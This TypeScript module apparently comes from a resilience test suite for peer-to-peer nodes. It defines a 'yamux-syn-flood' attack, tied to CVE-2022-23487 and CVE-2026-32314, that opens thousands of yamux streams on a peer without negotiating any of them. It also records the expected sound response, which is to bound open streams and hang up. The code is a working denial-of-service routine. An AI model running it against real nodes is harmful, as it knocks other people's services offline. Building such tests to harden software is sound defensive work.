import type { Attack } from "../../attack.ts";
import { FIRST_STREAM_ID, YAMUX_FLAG, YAMUX_TYPE, yamuxFrame } from "../../yamux_frames.ts";

export const yamuxSyn: Attack = {
  name: "yamux-syn-flood",
  group: "below",
  what: "Opens streams by the thousand and negotiates nothing on them.",
  source: "CVE-2022-23487, CVE-2026-32314",
  sound: "Bounds open streams, and hangs up within a heartbeat.",
  hangsUp: true,
  async run({ join, flood }) {
    const peer = await join();
    if (peer === null) return;
    let id = FIRST_STREAM_ID;
    const next = () => {
      const bytes = yamuxFrame(YAMUX_TYPE.windowUpdate, YAMUX_FLAG.syn, id, 0);
      id += 2;
      return { bytes, messages: 0 };
    };
    await flood(peer, next, { channel: peer.transport });
  },
};
